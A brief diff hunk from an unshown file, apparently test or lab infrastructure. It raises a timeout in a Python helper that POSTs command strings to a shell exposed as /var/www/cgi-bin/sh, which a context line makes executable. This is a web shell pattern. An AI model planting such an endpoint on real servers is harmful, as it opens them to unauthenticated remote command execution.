@@ -36,7 +36,7 @@ chmod 755 /var/www/cgi-bin/sh
 _ASK = """
 import sys, urllib.request
 request = urllib.request.Request(f"http://{sys.argv[1]}/cgi-bin/sh", data=sys.argv[2].encode())
-sys.stdout.write(urllib.request.urlopen(request, timeout=30).read().decode())
+sys.stdout.write(urllib.request.urlopen(request, timeout=110).read().decode())
 """
 
 
